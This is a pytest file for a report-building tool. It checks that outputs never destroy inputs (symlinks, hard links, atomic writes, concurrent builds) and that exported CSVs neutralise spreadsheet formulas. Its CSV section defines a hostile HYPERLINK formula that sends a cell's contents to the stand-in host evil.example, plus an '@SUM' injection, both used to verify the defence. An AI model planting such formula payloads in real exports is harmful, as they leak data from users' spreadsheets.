"""Outputs never destroy inputs or good files (issue 11).

Written as the adversary would: an output named like the input, reached through a symlink,
placed inside the audited tree; a write that fails half-way (``ulimit -f``); several builds racing
to one path; author text that a spreadsheet would run as a formula.
"""

from __future__ import annotations

import csv
import io
import os
import resource
import subprocess
import xml.etree.ElementTree as ET
import zipfile
from pathlib import Path

import pytest

from gkreport.cli import main
from gkreport.services.safeio import OutputError, atomic_output, check_output, write_text

REPO = Path(__file__).resolve().parent.parent
GK = str(REPO / ".venv" / "bin" / "gk")
EXAMPLE = REPO / "examples" / "report.md"


def run(capsys, *argv):
    status = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return status, out, err


@pytest.fixture
def report(tmp_path) -> Path:
    path = tmp_path / "r.md"
    path.write_bytes(EXAMPLE.read_bytes())
    return path


# ---------------------------------------------------------------- refusals


def test_audit_out_equal_to_its_input_is_refused_and_the_input_kept(capsys, report):
    before = report.read_bytes()
    status, _, err = run(capsys, "audit", report, "--out", report)
    assert status == 2 and "输入文件" in err
    assert report.read_bytes() == before


def test_audit_out_inside_the_audited_tree_is_refused(capsys, report):
    status, _, err = run(capsys, "audit", report.parent, "--out", report.parent / "sub" / "findings.json", "--lang", "en")
    assert status == 2 and "inside the folder being read" in err
    assert not (report.parent / "sub").exists()


def test_aggregate_output_equal_to_an_input_is_refused(capsys, report, tmp_path):
    other = tmp_path / "b.md"
    other.write_bytes(EXAMPLE.read_bytes())
    before = report.read_bytes()
    status, _, err = run(capsys, "aggregate", report, other, "-o", report)
    assert status == 2 and "就是输入文件" in err
    assert report.read_bytes() == before


def test_build_into_its_own_source_is_refused(capsys, tmp_path):
    source = tmp_path / "x.html"
    source.write_bytes(EXAMPLE.read_bytes())
    before = source.read_bytes()
    status, _, err = run(capsys, "build", source, "-o", source)
    assert status == 2 and "就是输入文件" in err
    assert source.read_bytes() == before


def test_an_output_symlink_to_the_source_is_refused(capsys, report, tmp_path):
    link = tmp_path / "out.html"
    link.symlink_to(report)
    before = report.read_bytes()
    for argv in (["build", report, "-o", link], ["extract", report, "-o", link], ["audit", report, "--out", link]):
        status, _, err = run(capsys, *argv)
        assert status == 2 and "就是输入文件" in err, argv
    assert report.read_bytes() == before and link.is_symlink()


def test_a_hard_link_to_the_input_is_the_input(report, tmp_path):
    twin = tmp_path / "twin.md"
    os.link(report, twin)
    with pytest.raises(OutputError) as refused:
        check_output(twin, [report])
    assert refused.value.kind == "is-input"


def test_gk_new_over_an_existing_file_needs_force_and_writes_atomically(capsys, tmp_path):
    target = tmp_path / "new.md"
    target.write_text("mine", encoding="utf-8")
    status, _, err = run(capsys, "new", "--org", "XX局", "--year", "2024", "-o", target)
    assert status == 2 and target.read_text(encoding="utf-8") == "mine"
    status, _, _ = run(capsys, "new", "--org", "XX局", "--year", "2024", "-o", target, "--force")
    assert status == 0 and "政府信息公开工作年度报告" in target.read_text(encoding="utf-8")
    assert [p.name for p in tmp_path.iterdir()] == ["new.md"]  # no temporary file left


# ---------------------------------------------------------------- atomic writes


def test_a_failed_write_leaves_the_old_file_and_no_temporary(tmp_path):
    target = tmp_path / "out.txt"
    target.write_text("good", encoding="utf-8")
    with pytest.raises(RuntimeError), atomic_output(target) as temp:
        temp.write_text("half", encoding="utf-8")
        raise RuntimeError("disk full")
    assert target.read_text(encoding="utf-8") == "good"
    assert [p.name for p in tmp_path.iterdir()] == ["out.txt"]


def test_writing_through_a_symlink_replaces_the_file_it_points_to(tmp_path):
    real = tmp_path / "real.csv"
    real.write_text("old", encoding="utf-8")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    write_text(link, "new")
    assert link.is_symlink() and real.read_text(encoding="utf-8") == "new"


def _limit_file_size():
    limit = 4096
    resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))


@pytest.mark.parametrize("suffix", [".docx", ".html"])
def test_build_over_the_file_size_limit_keeps_the_good_file_and_names_the_cause(tmp_path, suffix):
    """ulimit -f: pandoc is killed by SIGXFSZ half-way through its write."""
    output = tmp_path / f"report{suffix}"
    good = subprocess.run([GK, "build", str(EXAMPLE), "-o", str(output)], capture_output=True)
    assert good.returncode == 0
    before = output.read_bytes()
    assert len(before) > 4096
    failed = subprocess.run([GK, "build", str(EXAMPLE), "-o", str(output)], capture_output=True, text=True, preexec_fn=_limit_file_size)
    assert failed.returncode != 0
    assert "SIGXFSZ" in failed.stderr and "严格模式" not in failed.stderr
    assert output.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == [output.name]


def test_strict_mode_failure_says_strict_mode(tmp_path, repo_root):
    output = tmp_path / "wrong.docx"
    failed = subprocess.run([GK, "build", str(repo_root / "tests" / "golden" / "wrong_cell.md"), "-o", str(output), "--strict"], capture_output=True, text=True)
    assert failed.returncode == 1 and "严格模式" in failed.stderr
    assert not output.exists() and list(tmp_path.iterdir()) == []


def test_concurrent_builds_to_one_path_leave_one_valid_docx(tmp_path):
    import docx

    output = tmp_path / "report.docx"
    builds = [subprocess.Popen([GK, "build", str(EXAMPLE), "-o", str(output)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) for _ in range(4)]
    assert [b.wait(timeout=300) for b in builds] == [0, 0, 0, 0]
    assert [p.name for p in tmp_path.iterdir()] == ["report.docx"]
    with zipfile.ZipFile(output) as archive:
        assert archive.testzip() is None
    assert len(docx.Document(str(output)).tables) == 3


# ---------------------------------------------------------------- CSV formula injection

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.fixture(scope="module")
def hostile_csvs(tmp_path_factory) -> dict[str, Path]:
    """gk extract and gk audit CSVs of a 2019 report whose author text is a formula and whose
    signed 本年增/减 cell is -7."""
    folder = tmp_path_factory.mktemp("hostile")
    source = folder / "in" / "r.md"
    source.parent.mkdir()
    source.write_text(
        "---\nyear: 2019\n---\n\n"
        "| 信息内容 | 上一年项目数量 | 本年增/减 | 处理决定数量 |\n|---|---|---|---|\n"
        f"| 行政许可 | 10 | -7 | {HOSTILE} |\n| 其他对外管理服务事项 | 1 | +3 | @SUM(1+1) |\n",
        encoding="utf-8",
    )
    outputs = {"extract": folder / "extract.csv", "audit": folder / "audit.csv"}
    subprocess.run([GK, "extract", str(source), "--format", "csv", "-o", str(outputs["extract"])], check=False, capture_output=True)
    subprocess.run([GK, "audit", str(source.parent), "--out", str(outputs["audit"])], check=False, capture_output=True)
    return outputs


def test_csv_text_cells_are_prefixed_and_numbers_stay_numbers(hostile_csvs):
    rows = list(csv.DictReader(io.StringIO(hostile_csvs["extract"].read_text(encoding="utf-8"))))
    cells = {(r["row_key"], r["column_key"]): r for r in rows}
    assert cells[("licensing", "change")]["value"] == "-7" and cells[("licensing", "change")]["written"] == "-7"
    assert cells[("other_services", "change")]["written"] == "+3"
    hostile = [r for r in rows if HOSTILE in r["written"]]
    assert hostile and all(r["written"] == "'" + HOSTILE for r in hostile)
    assert any(r["written"] == "'@SUM(1+1)" for r in rows)
    audit = list(csv.reader(io.StringIO(hostile_csvs["audit"].read_text(encoding="utf-8"))))
    assert any("'" + HOSTILE in row for row in audit)
    for row in audit:
        assert not any(cell.startswith(("=", "@", "+")) for cell in row), row


def _cells_as_libreoffice_reads_them(path: Path, tmp: Path) -> list[tuple[str, str, str | None]]:
    """(text, value type, formula) of every cell LibreOffice imports from the CSV (UTF-8, comma)."""
    subprocess.run(
        ["soffice", "--headless", f"-env:UserInstallation=file://{tmp}/lo-profile", "--infilter=CSV:44,34,76,1",
         "--convert-to", "fods", "--outdir", str(tmp), str(path)],
        check=True, capture_output=True, timeout=180,
    )
    tree = ET.parse(tmp / (path.stem + ".fods"))
    ns = {"table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0", "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
          "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0"}
    cells = []
    for cell in tree.iter(f"{{{ns['table']}}}table-cell"):
        text = "".join(p.text or "" for p in cell.iter(f"{{{ns['text']}}}p"))
        kind = cell.get(f"{{{ns['office']}}}value-type") or ""
        cells.append((text, kind, cell.get(f"{{{ns['table']}}}formula")))
    return cells


def test_libreoffice_opens_the_csv_without_a_formula_and_with_minus_seven_a_number(hostile_csvs, tmp_path):
    cells = _cells_as_libreoffice_reads_them(hostile_csvs["extract"], tmp_path)
    assert not [c for c in cells if c[2]], "a cell became a formula"
    assert ("-7", "float", None) in cells
    assert any(text.endswith(HOSTILE) and kind == "string" for text, kind, _ in cells)


def test_safe_cell_rule():
    from gkreport.services.csvsafe import safe_cell

    assert [safe_cell(v) for v in ("=1+1", "+3", "-7", "-7.5", "-1+1", "@x", "\tx", "\rx", "ok", -7, "")] == [
        "'=1+1", "+3", "-7", "-7.5", "'-1+1", "'@x", "'\tx", "'\rx", "ok", -7, ""]

